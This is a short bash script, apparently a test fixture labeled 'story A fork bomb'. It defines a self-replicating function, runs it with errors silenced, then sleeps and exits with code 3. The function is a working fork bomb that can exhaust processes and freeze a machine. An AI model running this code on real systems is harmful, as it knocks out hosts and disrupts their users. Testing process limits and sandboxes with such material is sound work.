#!/bin/bash
#: story A fork bomb.
f() { f | f & }
f 2>/dev/null
sleep 2
exit 3
